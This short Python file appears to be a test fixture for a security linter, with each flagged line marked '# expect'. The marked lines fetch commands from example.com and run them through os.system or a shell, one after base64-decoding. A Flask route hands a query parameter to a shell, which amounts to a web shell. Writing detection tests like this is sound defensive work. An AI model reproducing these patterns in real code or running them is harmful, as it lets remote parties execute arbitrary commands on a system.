import base64
import os
import subprocess

import requests

task = requests.get("https://example.com/task").text
os.system(task)  # expect
reply = requests.get("https://example.com/next").json()
output = subprocess.check_output(reply["command"], shell=True)  # expect

from flask import Flask, request

app = Flask(__name__)


@app.route("/run")
def run_it():
    return subprocess.Popen(request.args.get("line"), shell=True)  # expect


def update():
    line = requests.get("https://example.com/line").text
    os.system(base64.b64decode(line).decode())  # expect
